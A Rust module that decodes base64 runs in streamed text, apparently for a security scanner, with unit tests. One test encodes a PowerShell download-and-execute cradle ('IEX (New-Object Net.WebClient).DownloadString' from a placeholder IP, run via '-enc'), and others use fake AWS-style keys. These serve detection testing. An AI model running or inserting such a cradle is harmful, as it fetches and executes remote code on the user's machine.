//! Streaming decoder of base64 / base64url runs inside text: every run of at least
//! [`MIN_RUN`] alphabet characters (the standard and URL-safe alphabets together, padding
//! optional) is decoded, its bytes handed on followed by a `\n` that keeps runs apart.
//! Line-wrapped runs (PEM, MIME) continue across a line break — `\n`, `\r\n`, or the two-character
//! escapes `\n` / `\r\n` of a JSON string seen raw — when the line before it held at least
//! [`MIN_RUN`] characters, a multiple of four.
//!
//! One pass over the input, no allocation per byte: outside a run, text is skipped by probing
//! one word in every 17 bytes ([`words`](super::words)), and a window of [`MIN_RUN`] bytes is
//! tested byte by byte only where a probe could lie inside a run. A run shorter than
//! [`MIN_RUN`] is never decoded; its first characters are held in a fixed array until the run
//! is long enough.
//!
//! A run whose first 18 decoded bytes are UTF-16LE text (every second byte zero, an optional
//! byte-order mark `FF FE`) is handed on as that text with its zero high bytes dropped:
//! PowerShell's `-EncodedCommand` takes base64 of UTF-16LE, so `IEX (New-Object …)` travels as
//! `SQBFAFgAIAAoAE4A…`, which no rule would read as bytes. A character outside Latin-1 keeps
//! both of its bytes.

use super::{hand_on, words, DECODED_PIECE};

/// Fewest alphabet characters a run needs to be decoded (18 decoded bytes).
pub const MIN_RUN: usize = 24;

/// Marks a byte outside the alphabet.
const OTHER: u8 = 0xff;

/// Base64 value of each byte (both alphabets), or [`OTHER`].
const VALUES: [u8; 256] = {
    let mut t = [OTHER; 256];
    let mut i = 0;
    while i < 26 {
        t[b'A' as usize + i] = i as u8;
        t[b'a' as usize + i] = 26 + i as u8;
        i += 1;
    }
    let mut d = 0;
    while d < 10 {
        t[b'0' as usize + d] = 52 + d as u8;
        d += 1;
    }
    t[b'+' as usize] = 62;
    t[b'-' as usize] = 62;
    t[b'/' as usize] = 63;
    t[b'_' as usize] = 63;
    t
};

/// Where a possible line break inside a run stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Wrap {
    /// No break under way.
    None,
    /// After `\r`.
    Cr,
    /// After a `\` (escaped `\n` or `\r\n` seen raw).
    Backslash,
    /// After `\r` written as an escape.
    EscapedCr,
    /// After the escaped `\r` and the next `\`.
    EscapedCrBackslash,
    /// A break was read: the run continues if an alphabet character follows.
    Broken,
}

/// Streaming base64 run decoder (see the module docs).
#[derive(Clone, Debug)]
pub struct Base64Runs {
    /// Alphabet characters in the current run.
    run: usize,
    /// Characters on the current line of the run.
    line: usize,
    /// The run's first characters' values, until it reaches [`MIN_RUN`].
    held: [u8; MIN_RUN],
    /// A partial 4-character quantum past the held part.
    quad: [u8; 4],
    quad_len: usize,
    wrap: Wrap,
    /// The run decodes to UTF-16LE text: zero high bytes are dropped.
    utf16: bool,
    /// The next decoded byte of a UTF-16LE run is a high byte.
    high: bool,
    scratch: Vec<u8>,
}

impl Default for Base64Runs {
    fn default() -> Self {
        Self::new()
    }
}

impl Base64Runs {
    /// A decoder outside any run.
    pub fn new() -> Self {
        Base64Runs {
            run: 0,
            line: 0,
            held: [0; MIN_RUN],
            quad: [0; 4],
            quad_len: 0,
            wrap: Wrap::None,
            utf16: false,
            high: false,
            scratch: Vec::new(),
        }
    }

    /// Decodes the runs in `input`, handing decoded bytes to `out`; returns `false` if `out`
    /// did (the caller stops feeding).
    pub fn push(&mut self, input: &[u8], out: &mut dyn FnMut(&[u8]) -> bool) -> bool {
        let mut i = 0;
        let len = input.len();
        while i < len {
            if self.run == 0 && self.wrap == Wrap::None {
                // Outside a run: skip, a probe at a time, text where no window of MIN_RUN
                // alphabet bytes can be; then, window by window, past the last byte outside
                // the alphabet (no run starts at or before it).
                i = words::skip_to_window::<MIN_RUN, words::Base64>(input, i);
                if i == len {
                    break;
                }
                if i + MIN_RUN <= len {
                    let window = &input[i..i + MIN_RUN];
                    if let Some(j) = window.iter().rposition(|&b| VALUES[b as usize] == OTHER) {
                        i += j + 1;
                        continue;
                    }
                    for (k, &b) in window.iter().enumerate() {
                        self.held[k] = VALUES[b as usize];
                    }
                    self.run = MIN_RUN;
                    self.line = MIN_RUN;
                    self.emit_held();
                    i += MIN_RUN;
                    continue;
                }
                // Fewer than a window left: a run can only start after its last byte outside
                // the alphabet (the bytes before would end a run too short to count).
                if let Some(j) = input[i..]
                    .iter()
                    .rposition(|&b| VALUES[b as usize] == OTHER)
                {
                    i += j + 1;
                    continue;
                }
            }
            if self.run >= MIN_RUN && self.wrap == Wrap::None && self.quad_len == 0 {
                // Inside a long run: whole quanta at a time.
                while i + 4 <= len {
                    let q = [
                        VALUES[input[i] as usize],
                        VALUES[input[i + 1] as usize],
                        VALUES[input[i + 2] as usize],
                        VALUES[input[i + 3] as usize],
                    ];
                    if q.contains(&OTHER) {
                        break;
                    }
                    self.put(&quantum(q));
                    self.run += 4;
                    self.line += 4;
                    i += 4;
                }
                if i == len {
                    break;
                }
            }
            self.byte(input[i]);
            i += 1;
            if self.scratch.len() >= DECODED_PIECE && !hand_on(&mut self.scratch, out) {
                return false;
            }
        }
        hand_on(&mut self.scratch, out)
    }

    /// The text ended: a run in progress ends too.
    pub fn finish(&mut self, out: &mut dyn FnMut(&[u8]) -> bool) -> bool {
        self.end_run();
        hand_on(&mut self.scratch, out)
    }

    fn byte(&mut self, b: u8) {
        let v = VALUES[b as usize];
        match self.wrap {
            Wrap::None => {}
            Wrap::Broken if v != OTHER => {
                self.wrap = Wrap::None;
                self.line = 0;
            }
            Wrap::Cr if b == b'\n' => {
                self.wrap = Wrap::Broken;
                return;
            }
            Wrap::Backslash if b == b'n' => {
                self.wrap = Wrap::Broken;
                return;
            }
            Wrap::Backslash if b == b'r' => {
                self.wrap = Wrap::EscapedCr;
                return;
            }
            Wrap::EscapedCr if b == b'\\' => {
                self.wrap = Wrap::EscapedCrBackslash;
                return;
            }
            Wrap::EscapedCrBackslash if b == b'n' => {
                self.wrap = Wrap::Broken;
                return;
            }
            _ => {
                // Not a line break after all: the run ended before it.
                self.end_run();
            }
        }
        if v != OTHER {
            self.char(v);
            return;
        }
        let breakable = self.run > 0 && self.line >= MIN_RUN && self.line % 4 == 0;
        self.wrap = match b {
            b'\n' if breakable => Wrap::Broken,
            b'\r' if breakable => Wrap::Cr,
            b'\\' if breakable => Wrap::Backslash,
            _ => {
                // Padding or any other byte ends the run.
                self.end_run();
                Wrap::None
            }
        };
    }

    fn char(&mut self, v: u8) {
        if self.run < MIN_RUN {
            self.held[self.run] = v;
            self.run += 1;
            self.line += 1;
            if self.run == MIN_RUN {
                self.emit_held();
            }
            return;
        }
        self.run += 1;
        self.line += 1;
        self.quad[self.quad_len] = v;
        self.quad_len += 1;
        if self.quad_len == 4 {
            self.put(&quantum(self.quad));
            self.quad_len = 0;
        }
    }

    /// The run reached [`MIN_RUN`]: its held characters are decoded, and their bytes tell
    /// whether the run is UTF-16LE text.
    fn emit_held(&mut self) {
        let mut bytes = [0u8; HELD_BYTES];
        for (q, out) in self.held.chunks_exact(4).zip(bytes.chunks_exact_mut(3)) {
            out.copy_from_slice(&quantum([q[0], q[1], q[2], q[3]]));
        }
        let text = bytes.strip_prefix(&[0xff, 0xfe]).unwrap_or(&bytes);
        self.utf16 = is_utf16le_text(text);
        self.high = false;
        let from = if self.utf16 {
            HELD_BYTES - text.len()
        } else {
            0
        };
        self.put(&bytes[from..]);
    }

    /// Hands on decoded bytes of the run (without the zero high bytes of UTF-16LE text).
    fn put(&mut self, bytes: &[u8]) {
        if !self.utf16 {
            self.scratch.extend_from_slice(bytes);
            return;
        }
        for &b in bytes {
            if !(self.high && b == 0) {
                self.scratch.push(b);
            }
            self.high = !self.high;
        }
    }

    fn end_run(&mut self) {
        if self.run >= MIN_RUN {
            let q = self.quad;
            match self.quad_len {
                2 => self.put(&[q[0] << 2 | q[1] >> 4]),
                3 => self.put(&[q[0] << 2 | q[1] >> 4, q[1] << 4 | q[2] >> 2]),
                _ => {}
            }
            self.scratch.push(b'\n');
        }
        self.utf16 = false;
        self.run = 0;
        self.line = 0;
        self.quad_len = 0;
        self.wrap = Wrap::None;
    }
}

/// Decodes one whole base64 / base64url token (padding optional, nothing else allowed, as in
/// an `Authorization: Basic` value) into `out`; `false` (with `out` unspecified) if `token` is
/// not one.
pub fn decode_token(token: &[u8], out: &mut Vec<u8>) -> bool {
    out.clear();
    if token.starts_with(b"=") {
        return false;
    }
    let data = token
        .strip_suffix(b"==")
        .or_else(|| token.strip_suffix(b"="))
        .unwrap_or(token);
    if data.len() % 4 == 1 {
        return false;
    }
    let mut quads = data.chunks_exact(4);
    for q in &mut quads {
        let v = [q[0], q[1], q[2], q[3]].map(|b| VALUES[b as usize]);
        if v.contains(&OTHER) {
            return false;
        }
        out.extend_from_slice(&quantum(v));
    }
    let rest: Vec<u8> = quads
        .remainder()
        .iter()
        .map(|&b| VALUES[b as usize])
        .collect();
    if rest.contains(&OTHER) {
        return false;
    }
    match rest[..] {
        [a, b] => out.push(a << 2 | b >> 4),
        [a, b, c] => out.extend_from_slice(&[a << 2 | b >> 4, b << 4 | c >> 2]),
        _ => {}
    }
    true
}

/// Bytes [`MIN_RUN`] characters decode to.
const HELD_BYTES: usize = MIN_RUN / 4 * 3;

/// The three bytes of a quantum of four values.
fn quantum(q: [u8; 4]) -> [u8; 3] {
    [
        q[0] << 2 | q[1] >> 4,
        q[1] << 4 | q[2] >> 2,
        q[2] << 6 | q[3],
    ]
}

/// Whether `bytes` (whole code units) read as UTF-16LE text: every high byte zero, no NUL
/// character, and at least half the characters printable ASCII. Random bytes pass with odds
/// below 2^-64; UTF-8 text never does (it has no zero bytes).
fn is_utf16le_text(bytes: &[u8]) -> bool {
    let units = bytes.chunks_exact(2);
    let count = units.len();
    let mut printable = 0;
    for unit in units {
        if unit[1] != 0 || unit[0] == 0 {
            return false;
        }
        printable += usize::from(unit[0].is_ascii_graphic() || unit[0] == b' ');
    }
    count > 0 && printable * 2 >= count
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode_all(input: &[u8], piece: usize) -> Vec<u8> {
        let mut d = Base64Runs::new();
        let mut out = Vec::new();
        for p in input.chunks(piece.max(1)) {
            d.push(p, &mut |b| {
                out.extend_from_slice(b);
                true
            });
        }
        d.finish(&mut |b| {
            out.extend_from_slice(b);
            true
        });
        out
    }

    #[test]
    fn a_whole_token_decodes_with_or_without_padding_and_nothing_else_does() {
        let mut out = Vec::new();
        for (token, plain) in [
            (&b"dXNlcjpwYXNz"[..], &b"user:pass"[..]),
            (b"dXNlcjpwYXNzMQ==", b"user:pass1"),
            (b"dXNlcjpwYXNzMQ", b"user:pass1"),
            (b"dXNlcjpwYXNzMTI=", b"user:pass12"),
            (b"dXNlcjpwYXNzMTI", b"user:pass12"),
            (b"-_-_", &[0xfb, 0xff, 0xbf]),
            (b"", b""),
        ] {
            assert!(decode_token(token, &mut out), "{token:?}");
            assert_eq!(out, plain);
        }
        for bad in [
            &b"dXNlc"[..],
            b"dXNl cjpw",
            b"dXNl:jpw",
            b"dXNlcjpwYXNz===",
            b"=",
        ] {
            assert!(!decode_token(bad, &mut out), "{bad:?}");
        }
    }

    #[test]
    fn runs_decode_whatever_the_split() {
        // "AKIA2E3F4G5H6I7J2K3L and more" in base64, line-wrapped, in text.
        let text = b"key: QUtJQTJFM0Y0RzVINkk3SjJLM0wg\r\nYW5kIG1vcmU= short QUtJ end";
        let whole = decode_all(text, text.len());
        assert_eq!(whole, b"AKIA2E3F4G5H6I7J2K3L and more\n");
        for piece in 1..text.len() {
            assert_eq!(decode_all(text, piece), whole, "pieces of {piece}");
        }
    }

    #[test]
    fn short_runs_and_words_are_not_decoded() {
        assert!(decode_all(b"the quick brown fox jumps over the lazy dog", 5).is_empty());
        assert!(decode_all(b"QUtJQTJFM0Y0RzVINkk3SjJL=", 3).len() == 19);
        assert!(decode_all(b"QUtJQTJFM0Y0RzVINkk3SjJ", 3).is_empty());
    }

    /// The block classes are the alphabet.
    #[test]
    fn the_block_classes_are_the_table() {
        for b in 0..=255u8 {
            assert_eq!(
                <words::Base64 as words::ByteClass>::byte(b),
                VALUES[b as usize] != OTHER,
                "{b:#x}"
            );
        }
    }

    /// The skips (blocks, windows, the tail shorter than a window) lose no run,
    /// wherever it starts and whatever byte comes before it.
    #[test]
    fn a_run_is_found_at_every_offset_after_any_separator() {
        let run = b"QUtJQTJFM0Y0RzVINkk3SjJLM0wg";
        for sep in [&b" "[..], b".", b"\"", b"=", b"\xc3\xa9", b"{", b"~"] {
            for lead in 0..40 {
                let mut text = b"agent calls the tool with context ".repeat(2)[..lead].to_vec();
                text.extend_from_slice(sep);
                text.extend_from_slice(run);
                text.extend_from_slice(sep);
                text.extend_from_slice(b"and more words follow");
                for piece in [1, 5, 24, text.len()] {
                    assert_eq!(
                        decode_all(&text, piece),
                        b"AKIA2E3F4G5H6I7J2K3L \n",
                        "lead {lead}, separator {sep:?}, pieces of {piece}"
                    );
                }
            }
        }
    }

    /// PowerShell's `-EncodedCommand` form: base64 of UTF-16LE.
    #[test]
    fn utf16le_text_is_handed_on_as_text_whatever_the_split() {
        let command = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";
        let wide: Vec<u8> = command.bytes().flat_map(|b| [b, 0]).collect();
        for (bom, wrap) in [
            (false, None),
            (true, None),
            (false, Some(64)),
            (true, Some(76)),
        ] {
            let mut bytes = if bom { vec![0xff, 0xfe] } else { Vec::new() };
            bytes.extend_from_slice(&wide);
            let mut b64 = encode(&bytes);
            if let Some(width) = wrap {
                let lines: Vec<String> = b64
                    .as_bytes()
                    .chunks(width)
                    .map(|l| String::from_utf8_lossy(l).into_owned())
                    .collect();
                b64 = lines.join("\r\n");
            }
            let text = format!("powershell -nop -enc {b64} ; echo");
            for piece in [1, 3, 4, 7, text.len()] {
                assert_eq!(
                    decode_all(text.as_bytes(), piece),
                    format!("{command}\n").as_bytes(),
                    "BOM {bom}, wrap {wrap:?}, pieces of {piece}"
                );
            }
        }
    }

    #[test]
    fn other_bytes_are_handed_on_unchanged() {
        // Zero bytes at every second place but a NUL character, non-zero high bytes (CJK),
        // and zero bytes that are not every second one: the bytes as they are.
        for bytes in [
            b"A\0B\0\0\0C\0D\0E\0F\0G\0H\0I\0J\0".to_vec(),
            "\u{4f60}\u{597d}\u{4e16}\u{754c}\u{4f60}\u{597d}\u{4e16}\u{754c}\u{4f60}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
            b"\0A\0B\0C\0D\0E\0F\0G\0H\0I".to_vec(),
            b"\x01\0\x02\0\x03\0\x04\0\x05\0\x06\0\x07\0\x08\0\x0b\0".to_vec(),
        ] {
            let mut expected = bytes.clone();
            expected.push(b'\n');
            assert_eq!(
                decode_all(encode(&bytes).as_bytes(), 5),
                expected,
                "{bytes:?}"
            );
        }
    }

    /// Standard base64 with padding, for the tests.
    fn encode(bytes: &[u8]) -> String {
        const ALPHABET: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let n = chunk
                .iter()
                .enumerate()
                .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
            for k in 0..=chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
            }
            for _ in chunk.len()..3 {
                out.push('=');
            }
        }
        out
    }

    #[test]
    fn escaped_line_breaks_continue_a_run() {
        let text = br#""QUtJQTJFM0Y0RzVINkk3SjJLM0wg\nYW5kIG1vcmU=""#;
        assert_eq!(decode_all(text, 7), b"AKIA2E3F4G5H6I7J2K3L and more\n");
    }
}
